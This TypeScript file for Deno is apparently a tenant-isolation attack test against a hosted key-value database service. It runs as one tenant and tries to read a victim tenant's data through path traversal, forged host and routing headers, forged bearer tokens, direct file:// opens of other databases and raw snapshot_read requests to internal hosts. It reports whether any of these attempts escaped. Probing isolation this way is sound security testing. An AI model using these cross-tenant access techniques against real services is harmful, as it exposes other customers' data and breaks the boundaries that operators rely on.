// Reads, writes and watches the victim's database: by its id, by forged names and tokens, by paths that lead out.
// @database
const at = JSON.parse(Deno.env.get("ATTACK")!);
const got: string[] = [];
const refused: string[] = [];
const word = [...at.victimDrow].reverse().join("");
const text = (bytes: Uint8Array) => new TextDecoder("latin1").decode(bytes);

async function attempt(what: string, act: () => Promise<string>) {
  try {
    const told = await act();
    (told.includes(word) ? got : refused).push(`${what}: ${told.slice(0, 24).replace(/[^ -~]/g, ".")}`);
  } catch (error) {
    refused.push(`${what}: ${(error as Error).name}`);
  }
}

// SnapshotRead of everything: ranges { start: 00, end: ff, limit: 100 }
const everything = new Uint8Array([0x0a, 0x08, 0x0a, 0x01, 0x00, 0x12, 0x01, 0xff, 0x18, 100]);
async function read(url: string, headers: Record<string, string> = {}) {
  const answer = await fetch(url, {
    method: "POST", body: everything, signal: AbortSignal.timeout(3000),
    headers: { "content-type": "application/x-protobuf", "x-denokv-version": "3", "x-denokv-database-id": at.victimDatabase, authorization: "Bearer isolate", ...headers },
  });
  return `${answer.status} ${text(new Uint8Array(await answer.arrayBuffer()))}`;
}

Deno.serve(async () => {
  const own = new URL(Deno.env.get("DENO_KV_DEFAULT_PATH")!).pathname.split("/")[2];
  const kv = await Deno.openKv();
  await kv.set(["mine"], 1);
  await attempt("list", async () => {
    let told = "";
    for await (const entry of kv.list({ start: [new Uint8Array()], end: [true, true] })) told += JSON.stringify(entry.value);
    for await (const entry of kv.list({ prefix: [] })) told += JSON.stringify(entry.value);
    return told;
  });

  const theirs = at.victimDatabase;
  for (const host of ["kv.islet.internal", "queue.islet.internal", `${at.domain}:${at.port}`, `127.0.0.1:${at.port}`, `${at.serverV4}:${at.port}`]) {
    for (const path of [theirs, `${own}/../${theirs}`, `${own}%2f..%2f${theirs}`, theirs.toUpperCase(), `{${theirs}}`, `${own};${theirs}`])
      await attempt(`${host} ${path.slice(0, 8)}`, () => read(`http://${host}/databases/${path}/kv/v3/snapshot_read`));
    await attempt(`${host} names`, () => read(`http://${host}/databases/${own}/kv/v3/snapshot_read`, {
      host: theirs, "x-islet-database": theirs, "x-original-url": `/databases/${theirs}/kv/v3/snapshot_read`, "x-islet-isolate": "1", "x-islet-client": "127.0.0.1:1",
    }));
    await attempt(`${host} connect`, () => read(`http://${host}/databases/${theirs}/connect`, { authorization: `Bearer ${at.organization}` }));
    await attempt(`${host} query`, () => read(`http://${host}/databases/${own}/kv/v3/snapshot_read?database=${theirs}&id=${theirs}`));
  }
  for (const path of [`http://kv.islet.internal/databases/${theirs}/connect`, `/databases/${theirs}`, `${at.data}/kv/${theirs}.db`, `file://${at.data}/kv/${theirs}.db`, `../../${theirs}`, theirs])
    await attempt(`openKv ${path.slice(0, 20)}`, async () => JSON.stringify((await (await Deno.openKv(path)).get(["word"])).value));

  return Response.json({ attack: at.name, escaped: got.length > 0, detail: got.length > 0 ? `got ${got.join(", ")}` : `refused: ${refused.join(", ")}` });
});
